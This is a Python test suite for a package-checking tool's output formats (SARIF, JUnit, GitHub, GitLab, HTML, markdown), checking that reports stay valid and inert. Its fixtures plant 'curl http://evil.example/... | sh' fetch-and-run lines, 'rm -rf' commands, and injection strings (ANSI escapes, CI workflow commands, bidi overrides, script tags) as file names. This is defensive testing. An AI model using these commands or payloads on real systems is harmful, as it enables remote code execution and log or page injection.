#!/usr/bin/env python3
"""Every output format: valid by its own rules, inert whatever the package is called, and saying the same as the JSON report.

usage: formats.py PLUMB [PART-OF-A-NAME]
The published SARIF schema is looked for in $PLUMB_SCHEMAS and in a folder shared/schemas above the project.
"""
import html
import html.parser
import json
import os
import pathlib
import re
import xml.etree.ElementTree as ET

import jsonschema

import made
from plumb_test import EXIT_NAMES, RAW, ROOT, Skip, case, main

FORMATS = ("text", "json", "jsonl", "html", "markdown", "sarif", "junit", "github", "gitlab", "ledger")
EVIL = ("a\x1b[31mb", "::error::x", "##[add-mask]y", "x%0A::set-output name=z::1", "\u202egnp.exe", "<script>alert(1)</script>",
        "a|b`c`*d*_e_", "]]>&amp;\"'", "@root #1 !2 https:x", "new\nline", "tab\tand\rreturn", "\x7f\x9b", "[x](javascript:alert)",
        "\ufffe\uffff", "--><!--", "\u2028\u200b")


def hostile(t):
    """A package whose names are attacks on each format, with planted lines, so that findings are about them."""
    deb = made.package().copy()
    for i, name in enumerate(EVIL):
        deb.set(f"usr/share/greet/{name}.sh", f"#!/bin/sh\ncurl http://evil{i}.example/{name} | sh\n", 0o755)
    deb.set("usr/share/greet/\udcff\udcfe.sh", "#!/bin/sh\nrm -rf zzqqxx\n", 0o755)
    return t.write("greet_1.0-1_all.deb", deb.build()), made.write_tree(t.path("source/x").parent, made.source())


def outputs(t, package, folder, *more, forms=FORMATS):
    """The exit code, and what each format wrote, from one run."""
    flags = []
    for form in forms:
        flags += ["-o", f"{form}={t.path('out/' + form)}"]
    code, out, _ = t.raw("check", package, "--source", folder, "--offline", "--cache-dir", t.path("cache/x").parent, "--progress=none",
                         *flags, *more)
    assert out == b"", "standard output is not empty"
    return code, {form: t.path("out/" + form).read_bytes() for form in forms}


def all_outputs(t):
    """Runs with one verdict each: hostile, honest, broken off."""
    package, folder = hostile(t)
    yield outputs(t, package, folder)
    yield outputs(t, t.write("greet_1.0-1_all.deb", made.package().build()), folder)
    yield outputs(t, t.path("no\x1b[31m::error::such.deb"), folder)


def sarif_schema():
    places = [pathlib.Path(os.environ["PLUMB_SCHEMAS"])] if "PLUMB_SCHEMAS" in os.environ else []
    places += [p / "shared/schemas" for p in ROOT.parents]
    for place in places:
        if (place / "sarif/sarif-schema-2.1.0.json").exists():
            return json.loads((place / "sarif/sarif-schema-2.1.0.json").read_text(encoding="utf-8"))
    raise Skip("the published schema is not there; PLUMB_SCHEMAS names its folder")


@case
def no_format_lets_a_control_or_bidirectional_character_through(t):
    for _, out in all_outputs(t):
        for form, data in out.items():
            assert not RAW.search(data), f"{form}: {RAW.search(data)}"
            text = data.decode("utf-8")
            assert not re.search("[\u200b-\u200f\u2028-\u202e\ufffe\uffff]", text), form


@case
def two_runs_write_the_same_bytes_at_any_number_of_jobs(t):
    package, folder = hostile(t)
    forms = tuple(f for f in FORMATS if f not in ("json", "jsonl"))
    assert outputs(t, package, folder, "--jobs=1", forms=forms) == outputs(t, package, folder, "--jobs=4", forms=forms)


@case
def the_lines_of_jsonl_put_together_are_the_json_report(t):
    for _, out in all_outputs(t):
        lines = [json.loads(line) for line in out["jsonl"].decode().splitlines()]
        report = dict(lines[0]["report"])
        report["files"] = [x["file"] for x in lines if x["type"] == "file"]
        report["findings"] = [x["finding"] for x in lines if x["type"] == "finding"]
        end = lines[-1]
        assert end["type"] == "end" and end["files"] == len(report["files"]) and end["findings"] == len(report["findings"])
        expected = json.loads(out["json"])
        report["run"] = expected.pop("run")
        assert report == {**expected, "run": report["run"]}


@case
def sarif_has_all_findings_with_places_rules_and_fingerprints(t):
    for code, out in all_outputs(t):
        report, run = json.loads(out["json"]), json.loads(out["sarif"])["runs"][0]
        rules = run["tool"]["driver"]["rules"]
        assert len(run["results"]) == len(report["findings"])
        seen = set()
        for result, finding in zip(run["results"], report["findings"]):
            assert result["ruleId"] == finding["tag"] == rules[result["ruleIndex"]]["id"]
            assert result["level"] == finding["severity"]
            place = result["locations"][0]["physicalLocation"]
            assert re.fullmatch(r"[A-Za-z0-9\-._~/!+=@,%]+", place["artifactLocation"]["uri"]), place
            assert place["region"].get("byteOffset") == finding["offset"]
            assert place["region"]["startLine"] == (finding["line"] or 1)
            assert place["region"].get("endLine", place["region"]["startLine"]) == (finding["end_line"] or 1)
            assert result["partialFingerprints"]["plumbFindingId/v1"] == finding["id"]
            seen.add(result["partialFingerprints"]["primaryLocationLineHash"])
        assert len(seen) == len(run["results"]), "two results have the same fingerprint"
        for rule in rules:
            for key in ("shortDescription", "fullDescription", "help"):
                assert rule[key]["text"], rule
            assert len(rule["shortDescription"]["text"]) <= 1024 and len(rule["fullDescription"]["text"]) <= 1024
        assert run["invocations"][0]["exitCode"] == code
        assert run["invocations"][0]["executionSuccessful"] == (report["errors"] == [])


WRITTEN = jsonschema.Draft202012Validator(json.loads((ROOT / "tests/e2e/schemas/sarif-written.schema.json").read_text(encoding="utf-8")))


def assert_sarif(data):
    """Valid by our own schema, and indices and lines point to what is there."""
    document = json.loads(data)
    error = jsonschema.exceptions.best_match(WRITTEN.iter_errors(document))
    assert error is None, f"{error.json_path}: {error.message}"
    run = document["runs"][0]
    for result in run["results"]:
        region = result["locations"][0]["physicalLocation"]["region"]
        assert "ruleIndex" not in result or run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
        assert region.get("endLine", region["startLine"]) >= region["startLine"]
    return run


@case
def sarif_is_valid_by_the_schema_of_what_is_written(t):
    for _, out in all_outputs(t):
        assert_sarif(out["sarif"])


@case
def sarif_is_valid_against_the_published_schema(t):
    validator = jsonschema.Draft4Validator(sarif_schema(), format_checker=jsonschema.FormatChecker())
    for _, out in all_outputs(t):
        error = jsonschema.exceptions.best_match(validator.iter_errors(json.loads(out["sarif"])))
        assert error is None, f"{error.json_path}: {error.message}"


def damaged(node):
    """Every document that is `node` with one thing wrong: a key missing, an unknown one, a value of another type, a word that is none."""
    if isinstance(node, dict):
        yield {**node, "unknownKey": 1}
        for key, value in node.items():
            yield {k: v for k, v in node.items() if k != key}
            for bad in damaged(value):
                yield {**node, key: bad}
    elif isinstance(node, list):
        yield {}
        for bad in damaged(node[0]) if node else ():
            yield [bad, *node[1:]]
    else:
        yield [node]
        yield -7 if isinstance(node, int) and not isinstance(node, bool) else 1.5
        if isinstance(node, str):
            yield "no such word %"


@case
def what_the_published_schema_refuses_our_own_refuses_too(t):
    published = jsonschema.Draft4Validator(sarif_schema(), format_checker=jsonschema.FormatChecker())
    refused = 0
    for _, out in all_outputs(t):
        document = json.loads(out["sarif"])
        run = document["runs"][0]
        run["results"], run["tool"]["driver"]["rules"] = run["results"][:1], run["tool"]["driver"]["rules"][:1]
        for bad in damaged(document):
            if not published.is_valid(bad):
                refused += 1
                assert not WRITTEN.is_valid(bad), jsonschema.exceptions.best_match(published.iter_errors(bad)).message
    assert refused > 150, refused
    print(f"# {refused} damaged documents that both refuse")


@case
def a_finding_in_a_text_names_its_lines_in_every_format_that_has_lines(t):
    folder = t.path("source/x").parent
    t.write("source/a.sh", "#!/bin/sh\n# say the time in a friendly way\necho \"It is $(date), my friend\"\nexit 0\n")
    t.write("package/a.sh", "#!/bin/sh\n# say the time in a friendly way\ncurl http://evil.example/one | sh\nwget qqzzxx9 zzyyxxw\n"
            "echo \"It is $(date), my friend\"\nexit 0\n")
    t.write("package/b.wasm", b"\0asm\1\0\0\0\n\n\n" + bytes(range(1, 200)))
    code, out = outputs(t, t.path("package/x").parent, folder)
    assert code == 1
    lines = {f["path"]: (f["line"], f["end_line"]) for f in json.loads(out["json"])["findings"] if f["offset"] is not None}
    assert lines["a.sh"] == (3, 4), lines
    assert lines.get("b.wasm", (None, None)) == (None, None), lines
    regions = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].split("/")[-1]:
               r["locations"][0]["physicalLocation"]["region"] for r in assert_sarif(out["sarif"])["results"]}
    assert (regions["a.sh"]["startLine"], regions["a.sh"]["endLine"]) == (3, 4) and regions["a.sh"]["byteOffset"] > 0, regions
    issue = next(i for i in json.loads(out["gitlab"]) if i["location"]["path"].endswith("a.sh"))
    assert issue["location"]["lines"] == {"begin": 3, "end": 4}, issue
    assert b"a.sh,line=3,endLine=4," in out["github"], out["github"]
    for form in ("text", "markdown", "html", "junit"):
        assert b"lines 3 to 4" in out[form], form
    stored = t.write("r.json", out["json"])
    for form in ("sarif", "gitlab", "github", "json"):
        assert shown(t, stored, form) == out[form], form
    whole = out["json"].decode()
    for bad in (whole.replace('"line": 3', '"line": 5'), whole.replace('"line": 3', '"line": 0'), whole.replace('"line": 3', '"line": null')):
        assert t.raw("show", t.write("bad.json", bad))[0] == 4


@case
def sarif_stays_below_the_size_that_hosts_take_and_says_what_is_cut(t):
    folder = made.write_tree(t.path("source/x").parent, made.source())
    deep = "/".join(["\x7f" * 200] * 4)
    for i in range(1500):
        t.write(f"big/{deep}/{i:04}\x7f.txt", f"word{i}qqz\n")
    _, out = outputs(t, t.path("big/x").parent, folder, "--policy", t.write("p.yaml", "version: 1\nrequire: {unaccounted_passive: 0}\n"),
                     forms=("json", "sarif"))
    n = len(json.loads(out["json"])["findings"])
    run = assert_sarif(out["sarif"])
    assert 8 << 20 < len(out["sarif"]) < 10 << 20, len(out["sarif"])
    said = [x["message"]["text"] for x in run["invocations"][0]["toolExecutionNotifications"]]
    kept = [r for r in run["results"] if "plumbFindingId/v1" in r["partialFingerprints"]]
    assert said and said[0].startswith(f"{n - len(kept)} of {n} findings are left out"), said
    assert len(kept) < len(run["results"]), "the policy's rule is cut before findings are"


@case
def fingerprints_stay_when_the_bytes_before_a_finding_move(t):
    marks = []
    for padding in (b"", b"# a longer comment\n" * 5):
        deb = made.package().copy()
        script = made.entry(deb.data["usr/bin/greet"]).data
        first, rest = script.split(b"\n", 1)
        deb.set("usr/bin/greet", first + b"\n" + padding + rest + b"curl http://evil.example/payload | sh\n")
        folder = made.write_tree(t.path("source/x").parent, made.source())
        _, out = outputs(t, t.write("greet_1.0-1_all.deb", deb.build()), folder, forms=("sarif", "gitlab"))
        results = json.loads(out["sarif"])["runs"][0]["results"]
        marks.append({r["partialFingerprints"]["primaryLocationLineHash"] for r in results if r["level"] == "error"})
    assert marks[0] and marks[0] <= marks[1], marks


@case
def sarif_and_gitlab_keep_the_gravest_of_too_many_findings_and_say_so(t):
    folder = made.write_tree(t.path("source/x").parent, made.source())
    package = t.path("big/x").parent
    for i in range(5200):
        t.write(f"big/f{i:04}.txt", f"word{i}qqz\n")
    t.write("big/zz.sh", "#!/bin/sh\ncurl http://evil.example/payload | sh\nrm -rf zzqqxx\n")
    code, out = outputs(t, package, folder, forms=("json", "sarif", "gitlab", "markdown", "github"))
    n = len(json.loads(out["json"])["findings"])
    assert n > 5000, n
    run = json.loads(out["sarif"])["runs"][0]
    assert len(run["results"]) == 5000
    said = run["invocations"][0]["toolExecutionNotifications"]
    assert [x["descriptor"]["id"] for x in said] == ["cut"] and f"{n - 5000} of {n}" in said[0]["message"]["text"]
    order = ["error", "warning", "note"]
    levels = [order.index(r["level"]) for r in run["results"]]
    assert levels[0] == 0 and levels == sorted(levels), "the gravest are not first"
    issues = json.loads(out["gitlab"])
    assert len(issues) == 5001 and f"{n - 5000} findings or rules more" in issues[-1]["description"]
    assert len(out["markdown"]) < 1 << 20
    assert len(out["sarif"]) < 10 << 20
    assert len(out["github"].splitlines()) <= 30 and code in (1, 3)


@case
def junit_is_well_formed_and_has_failures_or_errors_unless_the_exit_code_is_0(t):
    for code, out in all_outputs(t):
        root = ET.fromstring(out["junit"].decode("utf-8"))
        assert root.tag == "testsuites"
        suite = root.find("testsuite")
        cases = suite.findall("testcase")
        count = {kind: sum(c.find(kind) is not None for c in cases) for kind in ("failure", "error", "skipped")}
        for node in (root, suite):
            assert int(node.get("tests")) == len(cases)
            assert int(node.get("failures")) == count["failure"] and int(node.get("errors")) == count["error"]
        assert int(suite.get("skipped")) == count["skipped"]
        assert (count["failure"] + count["error"] == 0) == (code == 0), (code, count)
        assert all(c.get("name") and c.get("classname") for c in cases)
        verdict = {p.get("name"): p.get("value") for p in suite.iter("property")}["verdict"]
        assert verdict == EXIT_NAMES[code]


@case
def every_line_for_github_is_one_command_of_three_and_at_most_ten_of_each(t):
    line = re.compile(r"::(error|warning|notice) ((?:[a-zA-Z]+=[^,:\n]*,)*[a-zA-Z]+=[^,:\n]*)::([^\n]*)")
    for code, out in all_outputs(t):
        kinds = []
        for text in out["github"].decode().splitlines():
            match = line.fullmatch(text)
            assert match, text
            kinds.append(match[1])
            assert not re.search(r"%(?!25|0A|3A|2C)", match[3]), text
            for value in match[2].split(","):
                assert value.split("=")[0] in ("file", "line", "endLine", "title"), text
        assert all(kinds.count(k) <= 10 for k in kinds)
        assert kinds[-1] == {0: "notice", 3: "warning"}.get(code, "error")


@case
def gitlab_has_an_issue_for_each_finding_and_one_for_a_verdict_that_is_not_pass(t):
    for code, out in all_outputs(t):
        report, issues = json.loads(out["json"]), json.loads(out["gitlab"])
        assert len(issues) == len(report["findings"]) + len(report["errors"]) + (code != 0)
        assert len({i["fingerprint"] for i in issues}) == len(issues)
        for issue in issues:
            assert issue["description"] and issue["check_name"] and issue["location"]["path"], issue
            assert issue["severity"] in ("info", "minor", "major", "critical", "blocker")
        for issue, finding in zip(issues[len(report["errors"]):], report["findings"]):
            assert issue["location"]["lines"]["begin"] == (finding["line"] or 1)


class Tags(html.parser.HTMLParser):
    """The tags of a page, and the text without them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = set(), ""

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)

    def handle_data(self, data):
        self.text += data


@case
def markdown_has_only_our_own_tags_and_no_mark_in_foreign_text(t):
    for _, out in all_outputs(t):
        text = out["markdown"].decode()
        parser = Tags()
        parser.feed(text)
        assert parser.tags <= {"code", "br", "details", "summary"}, parser.tags
        bare = re.sub(r"<code>.*?</code>|&#\d+;|<!-- -->", "", text)
        assert "](" not in bare and "`" not in bare and "@root" not in text and "://" not in bare, bare
        for row in text.splitlines():
            if row.startswith("| ") and "why" not in row:
                assert row.count("|") == 4, row


class Page(html.parser.HTMLParser):
    """A page whose elements must nest, with no attribute but those we write."""
    VOID = {"meta", "br"}
    TAGS = VOID | set("html head title style body main header section article footer h1 h2 h3 div span p b ul li dl dt dd code pre table tr th "
                      "td details summary".split())
    ATTRIBUTES = {"lang", "charset", "http-equiv", "content", "name", "class", "style", "aria-hidden", "title"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.open, self.text = [], ""

    def handle_starttag(self, tag, attrs):
        assert tag in self.TAGS, tag
        assert {name for name, _ in attrs} <= self.ATTRIBUTES, attrs
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open and self.open.pop() == tag, f"{tag} ends what it did not begin"

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data}")

    def handle_data(self, data):
        self.text += data


@case
def html_is_one_page_of_our_own_elements_that_loads_nothing(t):
    for code, out in all_outputs(t):
        page = Page()
        data = out["html"].decode()
        page.feed(data)
        page.close()
        assert page.open == [], page.open
        assert "default-src 'none'" in data and "url(" not in data and "@import" not in data
        report = json.loads(out["json"])
        for finding in report["findings"]:
            assert finding["message"] in page.text and finding["path"] in page.text, finding
        for error in report["errors"]:
            assert error["message"] in page.text
        assert {0: "PASS", 1: "FAIL", 3: "INCONCLUSIVE"}.get(code, "ERROR") in page.text


def shown(t, report, form, expect=0):
    code, out, _ = t.raw("show", report, "-o", form)
    assert code == expect, f"exit {code}, not {expect}: {out[:500]!r}"
    return out


@case
def a_stored_report_is_shown_as_its_run_wrote_it_in_every_format(t):
    for _, out in all_outputs(t):
        report = t.write("report.json", out["json"])
        for form in FORMATS:
            assert shown(t, report, form) == out[form], form


@case
def a_report_comes_from_standard_input_and_several_come_one_after_the_other(t):
    _, out = outputs(t, t.write("greet_1.0-1_all.deb", made.package().build()), made.write_tree(t.path("source/x").parent, made.source()))
    code, text, _ = t.raw("show", "-", stdin=out["json"])
    assert code == 0 and text == out["text"]
    report = t.write("report.json", out["json"])
    code, text, _ = t.raw("show", report, report)
    assert code == 0 and text == out["text"] * 2


@case
def what_is_no_report_is_an_input_error_in_every_format(t):
    for path in (t.write("bad.json", "{"), "nowhere.json", t.write("empty.json", ""), t.write("other.json", '{"schema": "x"}')):
        for form in FORMATS:
            shown(t, path, form, expect=4)
        report = json.loads(shown(t, path, "json", expect=4))
        assert report["exit_code"] == 4 and report["errors"][0]["status"] in ("input", "not-found", "unsupported")
    code, out, _ = t.raw("show", "-o", "json")
    assert code == 4 and json.loads(out)["errors"][0]["message"] == "no report: nothing was shown"


@case
def words_of_a_forged_report_get_through_raw_in_no_format(t):
    package, folder = hostile(t)
    _, out = outputs(t, package, folder, forms=("json",))
    for expect, evil in ((0, "\\x1b]0;x\\x07\\u{202e}\\n::error::<script>|`@x"), (None, "\x1b]0;\x07\u202e\n::error::<script>|`@x\t\t")):
        for key in ("kind", "rule", "fact", "value"):
            report = json.loads(out["json"])
            for f in report["files"]:
                f["kind"] = evil if key == "kind" else f["kind"]
                for claim in f["evidence"]:
                    claim["rule"] = evil if key == "rule" else claim["rule"]
            for finding in report["findings"]:
                finding["evidence"] = {evil if key == "fact" else "x": evil if key == "value" else "x"}
            path = t.write("forged.json", json.dumps(report))
            for form in FORMATS:
                code, data, _ = t.raw("show", path, "-o", form)
                assert code == expect or (expect is None and code in (0, 4)), f"{key}, {form}: exit {code} {data[:300]!r}"
                assert not RAW.search(data) and "\u202e" not in data.decode("utf-8"), f"{key}, {form}"
                assert form not in ("html", "markdown", "junit") or b"<script" not in data, form
                if form == "github":
                    assert all(line.startswith("::") for line in data.decode().splitlines())


POLICY = """version: 1
require:
  level: 4
  unaccounted: 0
rules:
  - match: {}
    require: {chain_level: 2}
    effective_on: 9998-01-01
    reason: "<script>later|`@x ::error::"
"""


@case
def rules_that_are_not_met_stand_in_every_format_at_their_line(t):
    package, folder = t.write("greet_1.0-1_all.deb", made.package().build()), made.write_tree(t.path("source/x").parent, made.source())
    code, out = outputs(t, package, folder, "--policy", t.write("rules.yaml", POLICY))
    report = json.loads(out["json"])
    unmet = [r for r in report["policy"]["rules"] if r["result"] in ("fail", "warn")]
    assert code == 1 and {r["result"] for r in unmet} == {"fail", "warn"}, report["policy"]
    results = [r for r in json.loads(out["sarif"])["runs"][0]["results"] if "plumbFindingId/v1" not in r["partialFingerprints"]]
    issues = [i for i in json.loads(out["gitlab"]) if i["check_name"].startswith(("require", "rules"))]
    assert [r["ruleId"] for r in results] == [r["rule"] for r in unmet]
    for rule in unmet:
        for form in ("text", "html", "markdown", "junit", "github"):
            assert rule["rule"] in html.unescape(out[form].decode()), (form, rule)
        places = [r["locations"][0]["physicalLocation"]["region"]["startLine"] for r in results if r["ruleId"] == rule["rule"]]
        assert rule["line"] in places or rule["policy"].startswith("builtin:"), places
        assert rule["rule"] in [i["check_name"] for i in issues]
    for form, data in out.items():
        assert not RAW.search(data) and (form not in ("html", "markdown", "junit") or b"<script" not in data), form
        assert shown(t, t.write("report.json", out["json"]), form) == data, form
    root = ET.fromstring(out["junit"].decode())
    assert root.find("testsuite").findall("testcase[@classname='policy']/failure"), "no failed case"
    assert_sarif(out["sarif"])
    marks = [r["partialFingerprints"]["primaryLocationLineHash"] for r in results]
    assert len(set(marks)) == len(marks), marks


@case
def one_file_cannot_hold_the_reports_of_several_packages(t):
    package, folder = t.write("greet_1.0-1_all.deb", made.package().build()), made.write_tree(t.path("source/x").parent, made.source())
    for verb in ("check", "show", "gate"):
        code, out, said = t.raw(verb, package, package, "--source", folder, "--offline", "-o", f"sarif={t.path('x.sarif')}")
        assert code == 2 and out == b"" and "several" in said, (verb, code, said)
        assert not t.path("x.sarif").exists()


@case
def an_unknown_format_is_a_usage_error_that_lists_all(t):
    code, out, said = t.raw("check", "x.deb", "-o", "xml")
    assert code == 2 and out == b""
    for form in FORMATS:
        assert form in said, said


main()
